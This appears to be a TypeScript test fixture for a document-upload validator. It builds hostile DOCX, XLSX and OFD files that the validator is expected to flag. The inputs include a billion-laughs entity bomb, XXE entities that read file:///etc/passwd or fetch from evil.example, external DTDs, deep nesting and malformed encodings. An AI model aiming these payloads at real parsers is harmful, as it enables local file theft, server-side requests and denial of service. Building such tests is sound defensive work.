import { hostile } from '../hostile-file.ts'
import { craftDocx, craftOfd, craftXlsx, documentXml, paragraph } from '../office-files.ts'

const laughs = `<!DOCTYPE a [<!ENTITY a "${'ha'.repeat(1000)}">${[...'bcdefgh']
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefg'[at]};`.repeat(20)}">`)
  .join('')}]>`
const declarations: readonly (readonly [string, string])[] = [
  ['entities that swell', laughs],
  ['an entity from this machine', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
  ['an entity from outside', '<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/x">]>'],
  ['a document type from outside', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">'],
  ['an empty document type', '<!DOCTYPE a>'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>'],
]
const crafted = [
  ['docx', craftDocx],
  ['xlsx', craftXlsx],
  ['ofd', craftOfd],
] as const
const body = documentXml(paragraph('甲'))
const root = body.slice(body.indexOf('<w:document'))

export const xmlEntities = hostile('XML entities', [
  ...declarations.flatMap(([about, declaration]) =>
    crafted.map(
      ([name, craft]) =>
        [
          about,
          `a.${name}`,
          'active-content',
          () => craft({ main: `<?xml version="1.0"?>${declaration}<a>&x;</a>` }),
        ] as const,
    ),
  ),
  [
    'a document type in a relation',
    'a.docx',
    'active-content',
    () => craftDocx({ replace: { '_rels/.rels': { bytes: '<!DOCTYPE a><Relationships/>' } } }),
  ],
  [
    'a document type in the list of kinds',
    'a.docx',
    'active-content',
    () => craftDocx({ replace: { '[Content_Types].xml': { bytes: '<!DOCTYPE a><Types/>' } } }),
  ],
  [
    'a document type in UTF-16',
    'a.docx',
    'active-content',
    () => craftDocx({ main: Buffer.from(`\uFEFF<!DOCTYPE a><a/>`, 'utf16le') }),
  ],
  [
    'a document type behind a long remark',
    'a.docx',
    'active-content',
    () => craftDocx({ main: `<!--${'x'.repeat(100_000)}--><!DOCTYPE a><a/>` }),
  ],
  ['UTF-16 without a mark', 'a.docx', 'damaged', () => craftDocx({ main: Buffer.from(root, 'utf16le') })],
  [
    'an encoding nobody reads',
    'a.docx',
    'damaged',
    () => craftDocx({ main: `<?xml version="1.0" encoding="UTF-7"?>${root}` }),
  ],
  [
    'an encoding of mainframes',
    'a.docx',
    'damaged',
    () => craftDocx({ main: `<?xml version="1.0" encoding="IBM037"?>${root}` }),
  ],
  [
    'broken UTF-8',
    'a.docx',
    'damaged',
    () =>
      craftDocx({
        main: Buffer.concat([
          Buffer.from(root.slice(0, -13)),
          Buffer.from([0xff, 0xfe]),
          Buffer.from('</w:document>'),
        ]),
      }),
  ],
  [
    'an attribute of 15 MB',
    'a.docx',
    ['taken', 'too-large-inside'],
    () =>
      craftDocx({
        main: documentXml(
          `<w:p x="${Array.from({ length: 1_500_000 }, (_, at) => String(at).padStart(10, '0')).join('')}"/>`,
        ),
      }),
  ],
  [
    'a hundred thousand elements within each other',
    'a.docx',
    'too-large-inside',
    () => craftDocx({ main: documentXml('<w:p>'.repeat(100_000)) }),
  ],
  ['elements that never end', 'a.docx', 'damaged', () => craftDocx({ main: `<w:document><w:body><w:p>` })],
  ['two outermost elements', 'a.docx', 'damaged', () => craftDocx({ main: `${root}${root}` })],
  [
    'elements that cross',
    'a.xlsx',
    'damaged',
    () => craftXlsx({ main: '<worksheet><a><b></a></b></worksheet>' }),
  ],
  [
    'an SVG with a document type',
    'a.docx',
    'active-content',
    () =>
      craftDocx({
        parts: [{ name: 'word/media/image1.svg', bytes: '<!DOCTYPE svg [<!ENTITY x "y">]><svg/>' }],
      }),
  ],
])
